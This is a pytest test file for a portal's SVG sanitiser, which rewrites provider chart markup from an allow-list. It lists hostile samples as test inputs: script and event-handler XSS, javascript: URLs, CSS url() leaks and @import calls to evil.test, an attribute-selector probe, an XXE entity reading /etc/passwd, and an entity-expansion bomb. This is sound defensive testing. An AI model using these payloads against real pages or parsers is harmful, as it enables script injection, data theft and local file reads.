"""Markup from the provider, made safe before the portal inlines it (issue 47, item 8): with
``PROVIDER_API_URL`` the provider is another system, and its sensor chart SVG reaches the page
only rewritten from an allow-list, whatever it held."""

import re
import xml.etree.ElementTree as ET

import httpx
import pytest

from portal.client import InvalidResponse, ProviderClient
from portal.markup import SVG_ID_PREFIX, SVG_NAMESPACE, SVG_SCOPE, sanitize_svg

SVG = f"{{{SVG_NAMESPACE}}}"
XLINK = "{http://www.w3.org/1999/xlink}"
OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
ALLOWED = {
    "svg", "g", "defs", "style", "clipPath", "path", "use", "rect", "line", "polyline",
    "polygon", "circle", "ellipse", "text", "tspan",
}  # fmt: skip


def assert_inert(svg: str) -> ET.Element:
    """What a page may inline: allowed SVG elements, no handler, references to the chart only,
    a style sheet that paints nothing outside the chart."""
    root = ET.fromstring(svg)
    assert root.get("class") == SVG_SCOPE
    for element in root.iter():
        assert element.tag.startswith(SVG), element.tag
        assert element.tag.removeprefix(SVG) in ALLOWED, element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            if name.endswith("href"):
                assert value.startswith("#" + SVG_ID_PREFIX), value
            for target in re.findall(r"url\(([^)]*)\)", value):
                assert target.startswith("#" + SVG_ID_PREFIX), value
        if element.tag == f"{SVG}style" and element.text:
            for rule in filter(None, element.text.split("\n")):
                assert rule.startswith(f".{SVG_SCOPE} "), rule
            assert "url(" not in element.text
            assert "@" not in element.text
    return root


def clean(body: str) -> ET.Element:
    return assert_inert(sanitize_svg(f"{OPEN}{body}</svg>"))


def tags(root: ET.Element) -> list[str]:
    return [element.tag.removeprefix(SVG) for element in root.iter()]


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '<script xlink:href="https://evil.test/x.js"/>',
        "<ns:script xmlns:ns='http://www.w3.org/2000/svg'>alert(1)</ns:script>",
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">'
        "<img src='x' onerror='alert(1)'/></div></foreignObject>",
        '<image href="https://evil.test/track.png" width="1" height="1"/>',
        '<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/>',
        '<a href="javascript:alert(1)"><text>click</text></a>',
        '<animate attributeName="href" to="javascript:alert(1)"/>',
        '<set attributeName="onmouseover" to="alert(1)"/>',
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test"/>',
        "<p>breaks out of SVG in an HTML page</p>",
    ],
)
def test_elements_off_the_list_go_with_their_content(hostile: str) -> None:
    root = clean(f'<g id="kept">{hostile}<path d="M 0 0 L 1 1"/></g>')

    assert tags(root) == ["svg", "g", "path"]
    assert "alert" not in ET.tostring(root, encoding="unicode")


def test_event_handlers_and_unknown_attributes_go_the_shapes_stay() -> None:
    root = clean(
        '<rect onload="alert(1)" onclick="alert(2)" OnMouseOver="alert(3)" x="1" y="2"'
        ' width="3" height="4" data-x="1" class="page-class" style="fill: none"/>'
    )

    (rect,) = root.iter(f"{SVG}rect")
    assert rect.attrib == {"x": "1", "y": "2", "width": "3", "height": "4", "style": "fill: none"}


@pytest.mark.parametrize(
    ("reference", "kept"),
    [
        ("#glyph", "#provider-svg-glyph"),
        ("https://evil.test/sprites.svg#glyph", None),
        ("//evil.test/sprites.svg#glyph", None),
        ("javascript:alert(1)", None),
        ("data:image/svg+xml,%3Csvg/%3E", None),
        ("#a b", None),
    ],
)
def test_a_use_keeps_only_a_reference_inside_the_chart(reference: str, kept: str | None) -> None:
    root = clean(
        f'<path id="glyph" d="M 0 0"/><use xlink:href="{reference}"/><use href="{reference}"/>'
    )

    first, second = root.iter(f"{SVG}use")
    assert first.get(f"{XLINK}href") == kept
    assert second.get("href") == kept


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("fill: none; stroke: #1f77b4; stroke-width: 1.3", None),
        ("fill: url(#gradient)", "fill: url(#provider-svg-gradient)"),
        ("fill: url('#gradient')", "fill: url(#provider-svg-gradient)"),
        ("fill: url(https://evil.test/leak); stroke: red", "stroke: red"),
        ("fill: URL( //evil.test/leak )", ""),
        ("fill: u\\72l(https://evil.test/leak)", ""),
        ("fill: url(/*x*/https://evil.test/leak)", ""),
        ("fill: red; background: url(https://evil.test/leak)", "fill: red"),
        ("position: fixed; top: 0; width: 100vw", ""),
        ("fill: rgb(1, 2, 3); stroke: expression(alert(1))", "fill: rgb(1, 2, 3)"),
        ("fill: rgb(calc(1), 2, 3", ""),
        ("font: 10px 'DejaVu Sans'; text-anchor: middle", None),
    ],
)  # fmt: skip
def test_a_style_keeps_painting_properties_with_local_references_only(
    style: str, kept: str | None
) -> None:
    """``kept``: the declarations that stay; None when all of them do."""
    root = clean(f'<path d="M 0 0" style="{style}"/>')

    (path,) = root.iter(f"{SVG}path")
    assert path.get("style") == (style if kept is None else kept)


@pytest.mark.parametrize(
    ("attribute", "kept"),
    [
        ('clip-path="url(#p1)"', "url(#provider-svg-p1)"),
        ('clip-path="url(https://evil.test/c.svg#p1)"', None),
        ('fill="url(http://evil.test/x)"', None),
        ('transform="translate(1 2) rotate(90)"', "translate(1 2) rotate(90)"),
        ('transform="translate(1 2) image(https://evil.test/x)"', None),
    ],
)
def test_an_attribute_keeps_local_references_only(attribute: str, kept: str | None) -> None:
    root = clean(f'<g {attribute}><path d="M 0 0"/></g>')

    (group,) = root.iter(f"{SVG}g")
    assert next(iter(group.attrib.values()), None) == kept


def test_ids_are_prefixed_so_that_none_clobbers_the_page() -> None:
    root = clean('<g id="constructor"/><g id="__reflex"/><g id="a b"/><g id="x&quot;y"/>')

    assert [group.get("id") for group in root.iter(f"{SVG}g")] == [
        "provider-svg-constructor",
        "provider-svg-__reflex",
        None,
        None,
    ]


@pytest.mark.parametrize(
    ("sheet", "kept"),
    [
        (
            "*{stroke-linejoin: round; stroke-linecap: butt}",
            ".provider-svg * {stroke-linejoin: round; stroke-linecap: butt}",
        ),
        ("body { display: none } path { stroke-width: 2; position: fixed }",
         ".provider-svg path {stroke-width: 2}"),
        ("* { opacity: 0; font-size: 0 }", ""),
        ("@import url(https://evil.test/a.css); * { fill: red }", ""),
        ("* { fill: url(https://evil.test/leak) }", ""),
        ("input[value^=a] { stroke: red }", ""),
        ("* { fill: \\75rl(https://evil.test/leak) }", ""),
        ("* { fill: red } /* } body { display: none */", ""),
    ],
)  # fmt: skip
def test_the_style_sheet_paints_only_the_chart(sheet: str, kept: str) -> None:
    root = clean(f"<defs><style>{sheet.replace('<', '&lt;')}</style></defs>")

    (style,) = root.iter(f"{SVG}style")
    assert (style.text or "") == kept


def test_text_stays_text() -> None:
    root = clean("<text x='1'>&lt;script&gt;alert(1)&lt;/script&gt; &amp; more</text>")

    (text,) = root.iter(f"{SVG}text")
    assert text.text == "<script>alert(1)</script> & more"


@pytest.mark.parametrize(
    "document",
    [
        # An entity expansion bomb.
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        f"{OPEN}<text>&c;</text></svg>",
        # A local file read through an external entity.
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{OPEN}<text>&x;</text></svg>',
        # An external DTD.
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.test/svg11.dtd">'
        f"{OPEN}</svg>",
        "<html><body><svg/></body></html>",
        f"{OPEN}<g>",
        "not markup at all",
    ],
)
def test_what_is_no_plain_svg_document_is_refused(document: str) -> None:
    with pytest.raises(ValueError):
        sanitize_svg(document)


def test_a_deep_nesting_is_cut_not_a_crash() -> None:
    root = clean("<g>" * 5000 + "</g>" * 5000)

    assert 1 < len(tags(root)) < 100


async def test_the_client_hands_out_the_chart_sanitised() -> None:
    hostile = (
        f'{OPEN}<style>@import url(https://evil.test/a.css);</style><g onload="alert(1)">'
        '<script>alert(2)</script><path d="M 0 0 L 1 1" style="fill: url(https://evil.test/x)"/>'
        "</g></svg>"
    )

    def provider(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, text=hostile, headers={"Content-Type": "image/svg+xml"})

    transport = httpx.MockTransport(provider)
    async with ProviderClient("http://provider.test/provider", transport=transport) as client:
        svg = await client.sensors.chart_svg("s1")

    root = assert_inert(svg)
    assert tags(root) == ["svg", "style", "g", "path"]
    assert "evil.test" not in svg
    assert "alert" not in svg


async def test_a_chart_that_is_no_svg_is_an_invalid_answer() -> None:
    def provider(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, text="<html><script>alert(1)</script></html>")

    transport = httpx.MockTransport(provider)
    async with ProviderClient("http://provider.test/provider", transport=transport) as client:
        with pytest.raises(InvalidResponse):
            await client.sensors.chart_svg("s1")
